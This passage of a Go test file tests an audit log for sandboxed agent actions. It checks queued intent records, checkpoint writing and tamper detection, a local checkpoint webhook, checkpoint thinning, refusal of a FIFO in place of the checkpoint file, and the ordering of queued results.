// returns; a Wait whose context ends first, or a log that stopped, gives
// no Intent (the caller must not act), and bad entries are refused at
// once.
func TestIntentBeginQueued(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	_, l := ks.open(t, nil)
	q, err := l.BeginQueued(ctx, Entry{Session: "sb-1", Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"argv": []string{"id"}}})
	if err != nil {
		t.Fatal(err)
	}
	in, err := q.Wait(ctx)
	if err != nil {
		t.Fatal(err)
	}
	recs, _ := l.Tail(ctx, 0, 10)
	if len(recs) != 1 || recs[0].Kind != KindSandboxExec+IntentSuffix || recs[0].Seq != in.Seq() || string(recs[0].Data) != `{"argv":["id"]}` {
		t.Fatalf("records %+v", recs)
	}
	if err := in.EndQueued(map[string]any{"exit": 0}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := l.BeginQueued(ctx, Entry{Kind: "k"}); err == nil {
		t.Fatal("an intent without an actor was queued")
	}
	q2, err := l.BeginQueued(ctx, Entry{Actor: "a", Kind: "k"})
	if err != nil {
		t.Fatal(err)
	}
	gone, cancel := context.WithCancel(ctx)
	cancel()
	if got, err := q2.Wait(gone); got != nil || !errors.Is(err, context.Canceled) {
		t.Fatalf("Wait on an ended context = %v, %v", got, err)
	}
	if _, err := q2.Wait(ctx); err != nil {
		t.Fatalf("the record was committed all the same: %v", err)
	}
	l.Close()
	if _, err := l.BeginQueued(ctx, Entry{Actor: "a", Kind: "k"}); !errors.Is(err, ErrClosed) {
		t.Fatalf("BeginQueued on a closed log: %v", err)
	}
}

func TestCheckpointsWrittenAndMatched(t *testing.T) {
	ks := newKeyedSetup(t)
	_, l := ks.open(t, nil)
	appendN(t, l, 35)
	res := mustVerifyOK(t, l, 35)
	if res.Checkpoints.Read < 2 || res.Checkpoints.File != ks.cpFile {
		t.Fatalf("checkpoints %+v", res.Checkpoints)
	}
	l.Close()
	cs, err := readCheckpoints(context.Background(), ks.cpFile)
	if err != nil || cs.newest.Seq != 35 || cs.newest.Reason != "shutdown" || cs.newest.KeyID != ks.key.ID() {
		t.Fatalf("newest checkpoint %+v, %v", cs.newest, err)
	}
	// A torn last line (a crash mid-write) is not tampering.
	f, _ := os.OpenFile(ks.cpFile, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString(`{"seq":36,"hash":"ab`)
	f.Close()
	res, err = VerifyDatabase(context.Background(), ks.db, ks.verifyOpts())
	if err != nil || !res.OK || res.Checkpoints.NewestSeq != 35 {
		t.Fatalf("with a torn line: %v, %v", res, err)
	}
	// An edited line in the middle is.
	b, _ := os.ReadFile(ks.cpFile)
	lines := strings.SplitAfter(string(b), "\n")
	lines[1] = "{not json}\n"
	os.WriteFile(ks.cpFile, []byte(strings.Join(lines, "")), 0o600)
	res, err = VerifyDatabase(context.Background(), ks.db, ks.verifyOpts())
	wantProblem(t, res, err, ProblemCheckpoints, 0)
}

func TestCheckpointWebhook(t *testing.T) {
	got := make(chan Checkpoint, 100)
	srv := newTestHook(t, got)
	ks := newKeyedSetup(t)
	_, l := ks.open(t, func(o *Options) { o.CheckpointURL = srv; o.CheckpointFile = "" })
	appendN(t, l, 3)
	l.Close()
	var last Checkpoint
	for {
		select {
		case c := <-got:
			last = c
			continue
		default:
		}
		break
	}
	if last.Seq != 3 || last.Reason != "shutdown" {
		t.Fatalf("last webhook checkpoint %+v", last)
	}
}

func newTestHook(t *testing.T, got chan<- Checkpoint) string {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var c Checkpoint
		if err := json.NewDecoder(r.Body).Decode(&c); err != nil {
			http.Error(w, err.Error(), 400)
			return
		}
		got <- c
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func TestCheckpointThinning(t *testing.T) {
	cs := &checkpointSet{bySeq: map[int64]Checkpoint{}, keyIDs: map[string]bool{}, stride: 1}
	const n = 5 * maxCheckpointsKept
	for i := int64(1); i <= n; i++ {
		cs.add(Checkpoint{Seq: i * 10, Hash: strings.Repeat("a", 64)})
		if i == 3 {
			cs.add(Checkpoint{Seq: 30, Hash: strings.Repeat("b", 64)}) // contradicts
		}
	}
	if len(cs.bySeq) > maxCheckpointsKept || len(cs.bySeq) < maxCheckpointsKept/2 || cs.read != n+1 || cs.conflict != 30 {
		t.Fatalf("kept %d of %d, read %d, conflict %d", len(cs.bySeq), n, cs.read, cs.conflict)
	}
	if _, ok := cs.bySeq[10]; !ok || cs.newest.Seq != n*10 {
		t.Fatalf("oldest kept %v, newest %d", ok, cs.newest.Seq)
	}
}

// TestHostileAuditCheckpointFIFO: a FIFO in place of the checkpoint file
// is refused at once, not waited on.
func TestHostileAuditCheckpointFIFO(t *testing.T) {
	ks := newKeyedSetup(t)
	os.MkdirAll(filepath.Dir(ks.cpFile), 0o700)
	if err := unix.Mkfifo(ks.cpFile, 0o600); err != nil {
		t.Fatal(err)
	}
	st := openStore(t, ks.db)
	defer st.Close()
	refusesFIFO(t, "New", func() error {
		l, err := New(context.Background(), st, ks.opts(nil))
		if err == nil {
			l.Close()
		}
		return err
	})
	refusesFIFO(t, "VerifyDatabase", func() error {
		_, err := VerifyDatabase(context.Background(), ks.db, ks.verifyOpts())
		return err
	})
}

// EndQueued does not wait for its record, but keeps its place: a record
// appended after it follows it in the chain, and Close commits it.
func TestIntentEndQueuedKeepsOrder(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	_, l := ks.open(t, nil)
	var kinds []string
	for i := range 20 {
		in, err := l.Begin(ctx, Entry{Session: "sb-1", Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"i": i}})
		if err != nil {
			t.Fatal(err)
		}
		if err := in.EndQueued(map[string]any{"exit": i}, func(err error) { t.Errorf("queued end: %v", err) }); err != nil {
			t.Fatal(err)
		}
		if err := in.EndQueued(nil, nil); !errors.Is(err, ErrIntentEnded) {
			t.Fatalf("second end: %v", err)
		}
		kinds = append(kinds, KindSandboxExec+IntentSuffix, KindSandboxExec)
	}
	if _, err := l.Append(ctx, Entry{Session: "sb-1", Actor: "agent", Kind: KindSandboxDestroy}); err != nil {
		t.Fatal(err)
	}
	kinds = append(kinds, KindSandboxDestroy)
	recs, _ := l.Tail(ctx, 0, 100)
	var got []string
	for i, r := range recs {
		got = append(got, r.Kind)
		if r.Kind == KindSandboxExec && !strings.Contains(string(r.Data), fmt.Sprintf(`"intent_seq":%d`, recs[i-1].Seq)) {
			t.Fatalf("result %d does not follow its intent: %s", r.Seq, r.Data)
		}
	}
	if strings.Join(got, " ") != strings.Join(kinds, " ") {
		t.Fatalf("order %v", got)
	}
	// Queued and then closed: still committed.
	in, err := l.Begin(ctx, Entry{Session: "sb-1", Actor: "agent", Kind: KindSandboxExec})
	if err != nil {
		t.Fatal(err)
	}
	if err := in.EndQueued(map[string]any{"exit": 0}, nil); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	_, l2 := ks.open(t, nil)
	if recs, _ := l2.Tail(ctx, 0, 100); recs[len(recs)-1].Kind != KindSandboxExec {
		t.Fatalf("the queued end was lost at Close: last %s", recs[len(recs)-1].Kind)
	}
}
